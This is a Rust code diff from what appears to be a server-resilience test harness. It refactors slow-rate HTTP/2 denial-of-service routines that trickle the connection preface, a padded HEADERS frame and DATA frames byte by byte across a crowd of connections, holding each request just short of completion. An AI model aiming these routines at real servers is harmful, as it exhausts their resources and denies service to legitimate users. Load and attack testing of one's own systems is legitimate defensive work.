@@ -2,11 +2,9 @@
 
 use std::time::Duration;
 
-use tokio::time::interval;
-
 use crate::attacker::{Attacker, Over, request, request_fields, request_with, streams};
 use crate::frames::data;
-use crate::support::{CONTINUATION, END_STREAM, HEADERS, PREFACE, block, frame};
+use crate::support::{END_HEADERS, END_STREAM, HEADERS, PREFACE, block, frame};
 use crate::{Attack, Cost, Victim};
 
 const SAY_HELLO: &str = "/helloworld.Greeter/SayHello";
@@ -85,36 +83,35 @@ async fn half_open_handshakes(attacker: &mut Attacker) -> Result<(), Over> {
 /// A preface byte by byte.
 async fn slow_preface(attacker: &mut Attacker) -> Result<(), Over> {
     let mut crowd = crowd(attacker).await;
-    let mut pace = interval(PACE);
-    for byte in PREFACE.iter().cycle() {
-        pace.tick().await;
-        attacker.send(&[*byte]).await?;
-        for one in &mut crowd {
-            one.send(&[*byte]).await?;
-        }
-    }
-    Ok(())
+    trickle(attacker, &mut crowd, &PREFACE[..PREFACE.len() - 1]).await
 }
 
 /// A header block byte by byte.
 async fn slow_headers(attacker: &mut Attacker) -> Result<(), Over> {
     let mut crowd = crowd(attacker).await;
-    let fields = block(&request_fields(SAY_HELLO, &[("x-a", &"a".repeat(1_000))]));
     attacker.begin(&[]).await?;
-    attacker.send(&frame(HEADERS, 0, 1, &[])).await?;
     for one in &mut crowd {
         one.begin(&[]).await?;
-        one.send(&frame(HEADERS, 0, 1, &[])).await?;
     }
-    let mut pace = interval(PACE);
-    for byte in fields {
-        pace.tick().await;
-        let piece = frame(CONTINUATION, 0, 1, &[byte]);
-        attacker.send(&piece).await?;
-        for one in &mut crowd {
-            one.send(&piece).await?;
+    let long = "a".repeat(1_000);
+    let fields = block(&request_fields(SAY_HELLO, &[("x-a", &long)]));
+    let headers = frame(HEADERS, END_HEADERS, 1, &fields);
+    trickle(attacker, &mut crowd, &headers[..headers.len() - 1]).await
+}
+
+async fn trickle(
+    attacker: &mut Attacker,
+    crowd: &mut [Attacker],
+    bytes: &[u8],
+) -> Result<(), Over> {
+    for byte in bytes {
+        attacker.dawdle(PACE).await?;
+        attacker.send(&[*byte]).await?;
+        for one in &mut *crowd {
+            one.send(&[*byte]).await?;
         }
     }
+    attacker.listen().await?;
     Ok(())
 }
 
@@ -132,9 +129,8 @@ async fn slow_body(attacker: &mut Attacker) -> Result<(), Over> {
         .take(STREAMS)
         .flat_map(|it| data(it, b"x"))
         .collect();
-    let mut pace = interval(PACE);
     loop {
-        pace.tick().await;
+        attacker.dawdle(PACE).await?;
         attacker.send(&byte_each).await?;
     }
 }
